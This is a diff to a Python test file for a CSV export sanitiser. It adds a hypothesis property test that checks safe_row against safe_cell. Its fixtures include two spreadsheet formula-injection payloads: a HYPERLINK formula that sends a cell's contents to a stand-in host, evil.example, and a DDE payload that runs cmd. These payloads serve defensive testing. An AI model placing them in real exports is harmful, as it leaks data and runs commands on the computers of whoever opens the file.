@@ -9,8 +9,19 @@ from datetime import UTC, date, datetime
 from decimal import Decimal
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
-from core.csvout import CsvWriter, csv_line, csv_response, csv_stream, neutralise, safe_cell, safe_filename
+from core.csvout import (
+    CsvWriter,
+    csv_line,
+    csv_response,
+    csv_stream,
+    neutralise,
+    safe_cell,
+    safe_filename,
+    safe_row,
+)
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"x")'
 DDE = "@SUM(1+9)*cmd|' /C calc'!A0"
@@ -96,3 +107,22 @@ async def test_stream_in_partitions_and_response():
     assert response.headers["content-type"] == "text/csv; charset=utf-8"
     assert response.headers["content-disposition"] == 'attachment; filename="schedule-S1Xy.csv"'
     assert safe_filename("\r\n") == "download" and safe_filename("S-Łódź.csv") == "S-d.csv"
+
+
+CELLS = st.one_of(
+    st.text(),
+    st.text(alphabet="=+-@\t\r \u00a0\uff1d\uff0b\uff0d\uff20ab1", max_size=4),
+    st.integers(),
+    st.booleans(),
+    st.decimals(allow_nan=False),
+    st.floats(allow_nan=False),
+    st.none(),
+    st.dates(),
+)
+
+
+@given(st.lists(CELLS, max_size=8))
+def test_safe_row_is_safe_cell_of_every_value(values):
+    """The exports' fast path (issue 21) writes exactly what safe_cell would, for any value."""
+    assert safe_row(values) == [safe_cell(v) for v in values]
+    assert [type(v) for v in safe_row(values)] == [type(safe_cell(v)) for v in values]
